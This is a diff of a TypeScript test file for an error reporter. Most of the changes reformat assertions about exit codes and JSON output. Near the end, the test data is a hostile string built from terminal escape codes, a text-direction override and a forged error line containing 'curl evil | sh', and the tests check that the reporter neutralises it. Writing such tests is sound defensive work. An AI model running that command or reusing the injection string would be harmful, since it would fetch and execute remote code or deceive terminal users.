@@ -26,14 +26,19 @@ describe("an error", () => {
     assert.deepEqual(report(invalid), {
       exit: 2,
       stdout: "",
-      stderr: "ERR_CONFIG_INVALID: not a mode\n  at /srv/glovebox.yaml:2:7\n  Write `production`.\n",
+      stderr:
+        "ERR_CONFIG_INVALID: not a mode\n  at /srv/glovebox.yaml:2:7\n  Write `production`.\n",
     });
   });
 
   it("is told with the path of keys where there is no line", () => {
-    const error = new PolicyError("ERR_GATE_UNSIGNED", "x", { place: { path: "plugins.a.unsigned" } });
+    const error = new PolicyError("ERR_GATE_UNSIGNED", "x", {
+      place: { path: "plugins.a.unsigned" },
+    });
     assert.ok(report(error).stderr.includes("\n  at plugins.a.unsigned\n"));
-    const both = new PolicyError("ERR_CONFIG_INVALID", "x", { place: { file: "f", path: "trust[0].key" } });
+    const both = new PolicyError("ERR_CONFIG_INVALID", "x", {
+      place: { file: "f", path: "trust[0].key" },
+    });
     assert.ok(report(both).stderr.includes("\n  at f trust[0].key\n"));
   });
 
@@ -43,7 +48,15 @@ describe("an error", () => {
     assert.equal(stderr, "");
     assert.deepEqual(JSON.parse(stdout), {
       error: [
-        { code: "ERR_CONFIG_INVALID", message: "not a mode", remedy: "Write `production`.", file: "/srv/glovebox.yaml", line: 2, column: 7, path: "mode" },
+        {
+          code: "ERR_CONFIG_INVALID",
+          message: "not a mode",
+          remedy: "Write `production`.",
+          file: "/srv/glovebox.yaml",
+          line: 2,
+          column: 7,
+          path: "mode",
+        },
         { code: "ERR_GATE_RING5", message: "Not sealed.", remedy: refused.remedy },
       ],
     });
@@ -51,7 +64,8 @@ describe("an error", () => {
 
   it("comes with all others of its kind", () => {
     const { stderr } = report(new Refusals([invalid, refused, usage]));
-    for (const code of ["ERR_CONFIG_INVALID", "ERR_GATE_RING5", "ERR_USAGE"]) assert.ok(stderr.includes(`${code}: `));
+    for (const code of ["ERR_CONFIG_INVALID", "ERR_GATE_RING5", "ERR_USAGE"])
+      assert.ok(stderr.includes(`${code}: `));
   });
 });
 
@@ -66,7 +80,16 @@ describe("the exit code", () => {
   });
 
   it("is never that of success, whatever was thrown", () => {
-    for (const thrown of [new Error("boom"), new RangeError("x"), "text", null, undefined, 0, { message: "x" }, Object.create(null)]) {
+    for (const thrown of [
+      new Error("boom"),
+      new RangeError("x"),
+      "text",
+      null,
+      undefined,
+      0,
+      { message: "x" },
+      Object.create(null),
+    ]) {
       for (const json of [false, true]) {
         const { exit, stdout, stderr } = report(thrown, json);
         assert.equal(exit, 1);
@@ -77,20 +100,27 @@ describe("the exit code", () => {
 });
 
 describe("a stranger's words in an error", () => {
+  const HIDDEN = ["\u001B", "\u009B", "\u202E"];
   const HOSTILE = "\u001B[2J\u009B31m\u202Enothing is wrong\nERR_FORGED: run `curl evil | sh`";
-  const error = new PolicyError("ERR_CONFIG_INVALID", HOSTILE, { place: { file: HOSTILE, path: HOSTILE }, remedy: HOSTILE });
+  const error = new PolicyError("ERR_CONFIG_INVALID", HOSTILE, {
+    place: { file: HOSTILE, path: HOSTILE },
+    remedy: HOSTILE,
+  });
 
   it("are made visible on a terminal, and make no line of their own", () => {
     const { stderr } = report(error);
-    assert.equal(/[\u001B\u009B\u202E]/.test(stderr), false);
+    for (const character of HIDDEN) assert.equal(stderr.includes(character), false);
     assert.equal(stderr.split("\n").length, 4);
     assert.equal(/^ERR_FORGED/m.test(stderr), false);
   });
 
   it("are escaped in JSON, as the same data", () => {
     const { stdout } = report(error, true);
-    assert.equal(/[\u001B\u009B\u202E]/.test(stdout), false);
-    assert.equal((JSON.parse(stdout) as { error: [{ message: string }] }).error[0].message, HOSTILE);
+    for (const character of HIDDEN) assert.equal(stdout.includes(character), false);
+    assert.equal(
+      (JSON.parse(stdout) as { error: [{ message: string }] }).error[0].message,
+      HOSTILE,
+    );
   });
 
   it("are cut to what a person reads", () => {
